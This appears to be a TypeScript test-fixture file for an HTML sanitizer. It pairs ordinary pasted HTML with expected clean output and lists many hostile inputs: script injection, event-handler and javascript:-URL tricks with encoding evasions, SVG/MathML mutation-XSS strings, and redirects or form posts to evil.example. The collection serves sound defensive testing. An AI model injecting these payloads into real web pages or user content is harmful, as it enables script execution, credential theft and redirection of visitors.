/** HTML as people write and paste it, with what a reader is to see of it. */
export const ordinaryHtml: readonly (readonly [html: string, safe: string])[] = [
  ['Words alone, a & b < c', 'Words alone, a &amp; b &lt; c'],
  [
    '<p>Dear <strong>parents</strong>,<br>we <em>begin</em> again.</p><ul><li>One</li></ul>',
    '<p>Dear <strong>parents</strong>,<br>we <em>begin</em> again.</p><ul><li>One</li></ul>',
  ],
  ['<h3>Our year</h3>\n<p>Good.</p>\n', '<h3>Our year</h3>\n<p>Good.</p>'],
  ['<P CLASS="MsoNormal">Loud<BR/>tags</P>', '<p>Loud<br>tags</p>'],
  [
    '<p lang="hi">नमस्ते</p><p lang=" en-IN ">Hello</p>',
    '<p lang="hi">नमस्ते</p><p lang="en-IN">Hello</p>',
  ],
  ['<p>Never <b>closed <i>at all', '<p>Never <b>closed <i>at all</i></b></p>'],
  ['<b>Crossed <i>over</b> here</i>', '<b>Crossed <i>over</i></b><i> here</i>'],
  // Word, Google Documents, Outlook.
  [
    '<p class="MsoNormal"><span style="font-size:12pt">Dear<o:p>&nbsp;all</o:p></span></p>',
    '<p>Dear&nbsp;all</p>',
  ],
  ['<st1:place w:st="on">Dehradun</st1:place>', 'Dehradun'],
  ['<!--[if gte mso 9]><xml><w:View>Normal</w:View></xml><![endif]--><p>Text</p>', '<p>Text</p>'],
  ['<![if !supportLists]><p>Item</p><![endif]>', '<p>Item</p>'],
  ['<?xml:namespace prefix = o ns = "urn:x" /><p>Text</p>', '<p>Text</p>'],
  [
    '<b style="font-weight:normal" id="docs-internal-guid-1"><p dir="ltr">Hi</p></b>',
    '<b><p>Hi</p></b>',
  ],
  ['<font color="red">Red</font> <center>Middle</center>', 'Red Middle'],
  ['<div><div><section><p>Deep</p></section></div></div>', '<p>Deep</p>'],
  ['<form><label>Name <input value="x"></label><p>Text</p></form>', 'Name <p>Text</p>'],
  ['<pre>a\n  b</pre><code>c</code><textarea><b>d</b></textarea>', 'a\n  bc&lt;b&gt;d&lt;/b&gt;'],
  ['<h1>Large</h1><h2>Second</h2><h4>Small</h4>', 'LargeSecond<h4>Small</h4>'],
  [
    '<table><thead><tr><th>Class</th></tr></thead><tbody><tr><td>XII</td></tr></tbody></table>',
    'ClassXII',
  ],
  ['<select><option>One</option><option>Two</option></select>', 'OneTwo'],
  ['<school-card><p>Custom</p></school-card>', '<p>Custom</p>'],
  [
    '<html><head><title>T</title></head><body bgcolor="red"><p>Whole</p></body></html>',
    '<p>Whole</p>',
  ],
  ['<details open><summary>More</summary><p>Text</p></details>', 'More<p>Text</p>'],
  [
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;</p>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;</p>',
  ],
  ['', ''],
  ['   \n ', ''],
  // Links.
  ['<a href="/AboutUs" target="_top">x</a>', '<a href="/AboutUs" rel="noopener noreferrer">x</a>'],
  ['<a href="#top" rel="opener">x</a>', '<a rel="noopener noreferrer">x</a>'],
  [
    '<a href="mailto:office@school.example">x</a>',
    '<a href="mailto:office@school.example" rel="noopener noreferrer">x</a>',
  ],
  ['<a name="here">x</a>', '<a rel="noopener noreferrer">x</a>'],
  ['<p href="/x" rel="opener">x</p>', '<p>x</p>'],
];

/** HTML that tries to run, to load, to send or to cover something. */
export const hostileHtml: readonly string[] = [
  '<script>window.ran = true</script>',
  '<scr<script>ipt>window.ran = true</script>',
  '<img src=x onerror="window.ran = true">',
  '<img src="x` `<script>window.ran = true</script>"` `>',
  '<image src=x onerror="window.ran = true">',
  '<body onload="window.ran = true"><p>text</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.ran = true</script>"><p>in it</p></iframe>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:x">y</button></form>',
  '<p style="position:fixed" onclick="window.ran = true" class="x" id="y" data-z="1" aria-label="w">text</p>',
  '<p/onclick=window.ran=true>text',
  '<p xml:lang="en" xlink:href="javascript:1" slot="z" popover tabindex="0">text</p>',
  '<p lang="</style><img src=x onerror=window.ran=true>">text</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="x"><p>in it</p></object><embed src="x"><applet>y</applet>',
  '<video><source onerror="window.ran = true"></video><audio src=x onerror="window.ran = true">z</audio>',
  '<details open ontoggle="window.ran = true">x</details>',
  '<marquee onstart="window.ran = true">x</marquee>',
  '<input autofocus onfocus="window.ran = true"><select autofocus onfocus="window.ran = true">',
  '<frameset onload="window.ran = true"><frame src="javascript:1"></frameset>',
  '<portal src="https://evil.example"></portal><dialog open>x</dialog>',
  // Addresses.
  '<a href="javascript:window.ran=1">x</a>',
  '<a href="JaVa&#09;script:window.ran=1">x</a>',
  '<a href=" &#14; javascript:window.ran=1">x</a>',
  '<a href="&#106;avascript&colon;window.ran=1">x</a>',
  '<a href="java&NewLine;script:window.ran=1">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://school.example@evil.example">x</a>',
  '<a ping="https://evil.example" download="x.exe">x</a>',
  '<a xlink:href="javascript:1">x</a>',
  // SVG and MathML, also as a way from one parser state into another.
  '<svg onload="window.ran = true"></svg>',
  '<svg><script>window.ran = true</script><a href="javascript:1"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:1"/><use href="data:x"/></svg>',
  '<svg><foreignObject><p>in it<img src=x onerror="window.ran = true"></p></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=true>">',
  '<svg><p><style><g title="</style><img src=1 onerror=window.ran=true>"></svg>',
  '<svg><desc><template><b>x</b></template></desc><title><a href="/x">y</a></title></svg>',
  '<math href="javascript:1"><mi xlink:href="javascript:1">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.ran=true>">',
  '<math><mtext><table><mglyph><style><math><img src=1 onerror=window.ran=true></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=true>',
  '<math><annotation-xml encoding="text/html"><p><img src=x onerror=window.ran=true></p></annotation-xml></math>',
  '<math><mi><svg><mi><p>x</p></svg></math>',
  // Raw text, comments and what may stand in them.
  '<noscript><p title="</noscript><img src=x onerror=window.ran=true>"></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=window.ran=true>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=window.ran=true>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=window.ran=true>"></xmp>',
  '<title><p title="</title><img src=x onerror=window.ran=true>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=window.ran=true>"></textarea>',
  '<!--><img src=x onerror=window.ran=true>-->',
  '<!--!><img src=x onerror=window.ran=true>--!><p>text</p>',
  '<p>a<!-- b --><? c ?><![CDATA[ d ]]>e</p>',
  '<template><p>x</p><script>window.ran = true</script></template>',
  '<p><template shadowrootmode="open"><img src=x onerror="window.ran = true"></template>text</p>',
  '<div><template shadowrootmode="open"><slot></slot></template><p>text</p></div>',
  '<select><template><style><p title="</style><img src=x onerror=window.ran=true>"></template></select>',
  '<select><noscript><style><img src=x onerror=window.ran=true></style></noscript></select>',
  // Tables and links that the parser moves about.
  '<table><p>out<tr><td><table><a href="javascript:1">in</a><tr><td>deep</td></tr></table></td></tr></table>',
  '<a href="/a">one<table><a href="/b">two</a></table></a>',
  '<table><caption><svg><title><table><tr><td>x</td></tr></table></title></svg></caption></table>',
  '<a"b onclick=window.ran=true>x</a"b><p\u0000q>y</p\u0000q>',
  '<__proto__>x</__proto__><constructor>y</constructor><tostring onclick="window.ran = true">z</tostring>',
  // Depth and number.
  `${'<div>'.repeat(600)}<p>deep</p><img src=x onerror="window.ran = true">`,
  `${'<b><blockquote>'.repeat(400)}<p>deep</p><script>window.ran = true</script>`,
  `${'<a href="/x"><div>'.repeat(60)}text`,
  Array.from({ length: 600 }, (_, index) => `<x-${index} onclick=window.ran=1>a</x-${index}>`).join(
    '',
  ),
  '<p>open <b',
  '<plaintext><p>text</p><script>window.ran = true</script>',
];

/**
 * HTML of which DOMPurify leaves less than the browser does: a form whose fields hide its own
 * properties, an element in which a comment and the text both look like tags, and the attribute `is`,
 * which it can only empty, so that the letter is refused and comes as plain text.
 */
export const furtherCutHtml: readonly string[] = [
  '<form><input name="attributes"><input name="childNodes"><p>text</p></form>',
  '<p><!--<x-->&lt;x&gt; text</p>',
  '<p is="x-y">text</p>',
];

/** What a safe letter may hold; written out once more, so that a longer list is noticed. */
export const safeElements = 'p,br,strong,b,em,i,u,ul,ol,li,blockquote,a,h3,h4';
